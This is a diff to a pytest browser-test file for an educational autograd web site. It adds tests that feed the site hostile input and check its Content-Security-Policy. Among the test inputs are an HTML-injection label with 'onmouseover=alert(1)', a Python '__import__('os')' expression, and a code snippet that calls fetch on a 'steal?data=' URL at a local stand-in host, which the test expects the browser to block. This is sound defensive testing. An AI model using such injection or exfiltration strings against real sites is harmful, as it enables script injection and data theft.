@@ -282,6 +282,17 @@ def test_cli_site_errors_are_one_line(tmp_path):
 # --- The site in headless Chromium, offline -------------------------------------------------
 
 
+def wait_until(page, expression: str, timeout: float = 30.0) -> None:
+    """Wait until ``expression`` is true in the page, asked from outside it: Playwright's
+    own wait_for_function evaluates a string inside the page, which the site's
+    Content-Security-Policy refuses (no eval), as it should."""
+    deadline = time.monotonic() + timeout
+    while not page.evaluate(expression):
+        if time.monotonic() > deadline:
+            raise AssertionError(f"not true within {timeout:g} s: {expression}")
+        time.sleep(0.05)
+
+
 @pytest.fixture(scope="session")
 def site(tmp_path_factory):
     """The site, built once for the session (npm and pip fill a cache the first time)."""
@@ -551,7 +562,7 @@ def test_quiz_accepts_right_answers_rejects_wrong_ones_with_a_hint_and_scores(op
 @pytest.mark.slow
 def test_check_your_op_fails_the_broken_swish_and_passes_the_fixed_one(open_tab):
     page = open_tab("check.html").page
-    page.wait_for_function("window.autograd_mini.lastCheck !== undefined")
+    wait_until(page, "window.autograd_mini.lastCheck !== undefined")
     assert page.locator("#code").input_value() == readme_swish()
     assert page.locator("#verdict").text_content() == "✗ not yet"
     report = page.locator('section[data-op="swish"]')
@@ -586,7 +597,7 @@ def test_at_phone_width_every_control_is_reachable_and_the_active_node_visible(o
     svg = page.locator("#graph svg").bounding_box()
     assert svg["height"] > svg["width"]  # top to bottom at phone width
     check = open_tab("check.html", width=390, height=844).page
-    check.wait_for_function("window.autograd_mini.lastCheck !== undefined")
+    wait_until(check, "window.autograd_mini.lastCheck !== undefined")
     assert check.evaluate("document.documentElement.scrollWidth") <= 390
     check.locator("#check").scroll_into_view_if_needed()
     check.click("#check")
@@ -615,7 +626,7 @@ def test_hostile_expressions_and_link_labels_are_shown_as_text(open_tab, server)
         "e": "tanh(x) + __import__('os')", "at": "<b onmouseover=alert(1)>:1,x:2"})
     page.goto(f"{server}/index.html#{fragment}")
     page.evaluate("() => window.autograd_mini.ready.then(() => true)")
-    page.wait_for_function("document.querySelector('#expression-error').textContent !== ''")
+    wait_until(page, "document.querySelector('#expression-error').textContent !== ''")
     assert "__import__" in page.locator("#expression").input_value()
     assert page.locator("#expression-error").text_content()
     assert page.locator("main b, main img, main script").count() == 0
@@ -635,7 +646,7 @@ def test_share_link_reproduces_the_page(open_tab, server):
     other = open_tab().page
     other.goto(link)
     other.evaluate("() => window.autograd_mini.ready.then(() => true)")
-    other.wait_for_function("window.autograd_mini.playground?.state.result !== undefined")
+    wait_until(other, "window.autograd_mini.playground?.state.result !== undefined")
     assert other.locator("#expression").input_value() == "x*y + exp(y)"
     assert_same(other.evaluate("autograd_mini.playground.state.result"),
                 package_answer("x*y + exp(y)", {"x": 1.25, "y": -0.5}))
@@ -679,3 +690,102 @@ def test_a_page_opened_from_disk_says_how_to_open_it(offline_browser, site):
         page.goto((site / name).as_uri())
         assert "autograd-mini site serve" in page.locator("#status").text_content()
     context.close()
+
+
+# --- Hostile input, a large graph's slider, the Content-Security-Policy (in Chromium) ------
+
+
+@pytest.mark.browser
+def test_a_hostile_link_or_answer_is_refused_and_the_page_goes_on(open_tab, server):
+    """The reproducers that once killed the page's Python ("Maximum call stack size
+    exceeded", "Pyodide has suffered a fatal error"): each is one message, and the page
+    works after it."""
+    tab = open_tab("index.html#e=" + "-" * 1700 + "x&at=x:1")
+    page = tab.page
+    wait_until(page, "document.querySelector('#expression-error').textContent !== ''")
+    assert "nested too deeply" in page.locator("#expression-error").text_content()
+    assert_same(type_expression(page, "x*x + 3*x", {"x": 2.0}),
+                package_answer("x*x + 3*x", {"x": 2.0}))
+    assert page.locator("#expression-error").text_content() == ""
+    page.goto(f"{server}/index.html#" + urllib.parse.urlencode({"e": "x+" * 2000, "at": "x:1"}))
+    page.evaluate("() => window.autograd_mini.ready.then(() => true)")
+    wait_until(page, "document.querySelector('#expression-error').textContent !== ''")
+    assert "longer than 2000 characters" in page.locator("#expression-error").text_content()
+    # A quiz answer goes through the same parser, and its limits.
+    type_expression(page, "x*x", {"x": 3.0})
+    page.check("#quiz-mode")
+    while page.locator("#quiz fieldset").count() == 0:  # the first backward step asks
+        page.click("#next")
+    blank = page.locator("#quiz fieldset").first
+    qid = blank.get_attribute("data-question")
+    blank.locator("input").fill("-" * 1999 + "1")
+    blank.get_by_role("button", name="Check").click()
+    assert "nested too deeply" in blank.locator(".feedback").text_content()
+    truth = quiz_truths("x*x", {"x": 3.0})[qid]
+    blank.locator("input").fill(repr(truth))
+    blank.get_by_role("button", name="Check").click()
+    feedback = page.locator(f'fieldset[data-question="{qid}"] .feedback').text_content()
+    assert feedback.startswith("right")
+    page.uncheck("#quiz-mode")
+    assert_same(type_expression(page, "tanh(x)", {"x": 0.5}), package_answer("tanh(x)", {"x": 0.5}))
+    assert page.locator("#graph svg").count() == 1
+
+
+@pytest.mark.browser
+def test_the_slider_of_a_product_of_190_factors_redraws_quickly(open_tab):
+    """Laid out once, then only redrawn at the same positions: under 200 ms a move (it
+    was 3-10 s, a new layout at every move)."""
+    expression = "*".join(["x"] * 190)
+    page = open_tab().page
+    started = time.perf_counter()
+    type_expression(page, expression, {"x": 0.9})
+    first = time.perf_counter() - started
+    timings = page.evaluate("""async () => {
+        const slider = document.querySelector('input[aria-label="x slider"]');
+        const times = [];
+        for (let i = 0; i < 12; i++) {
+            slider.value = String(0.9 + i * 0.01);
+            slider.dispatchEvent(new Event('input', {bubbles: true}));
+            times.push(window.autograd_mini.lastRedrawMs);
+            await new Promise((r) => requestAnimationFrame(r));
+        }
+        return times;
+    }""")
+    figure(f"slider redraw, product of 190 factors (379 nodes): first frame {first:.1f} s, "
+           f"then median {statistics.median(timings):.0f} ms, max {max(timings):.0f} ms "
+           f"over {len(timings)} moves")
+    assert statistics.median(timings) < 200
+    x = float(page.get_by_label("x value", exact=True).input_value())
+    assert x == pytest.approx(0.9 + 11 * 0.01)
+    assert_same(page.evaluate("autograd_mini.playground.state.result"),
+                package_answer(expression, {"x": x}))
+    assert page.locator("#graph svg g.node").count() == 379 + 1  # and the colour legend
+
+
+@pytest.mark.browser
+def test_the_policy_is_sent_and_carried_and_code_cannot_reach_another_origin(open_tab, server,
+                                                                             site):
+    from autograd_mini.site.policy import CONTENT_SECURITY_POLICY, meta_tag
+
+    for page_name in ("index.html", "check.html", "course.html"):
+        with urllib.request.urlopen(f"{server}/{page_name}") as response:
+            assert response.headers["Content-Security-Policy"] == CONTENT_SECURITY_POLICY
+        assert meta_tag() in (site / page_name).read_text(encoding="utf-8")
+    tab = open_tab("check.html")
+    page = tab.page
+    wait_until(page, "window.autograd_mini.lastCheck !== undefined")
+    page.evaluate("""() => { window.violations = [];
+        document.addEventListener('securitypolicyviolation',
+                                  (e) => window.violations.push(e.violatedDirective)); }""")
+    page.fill("#code", "import js\n"
+                       "js.fetch('http://127.0.0.2:9/steal?data=1').catch(lambda e: None)\n"
+                       "print('sent')\n")
+    page.click("#check")
+    wait_until(page, "window.violations.length > 0")
+    assert page.evaluate("window.violations")[0].startswith("connect-src")
+    assert page.locator("#printed").text_content() == "sent\n"
+    assert tab.blocked == []  # refused by the browser: no request was even made
+    # The browser says so on the console; that, and only that, is expected here.
+    refused = [m for m in tab.console if "Content Security Policy" in m]
+    assert refused
+    tab.console[:] = [m for m in tab.console if m not in refused and "Failed to fetch" not in m]
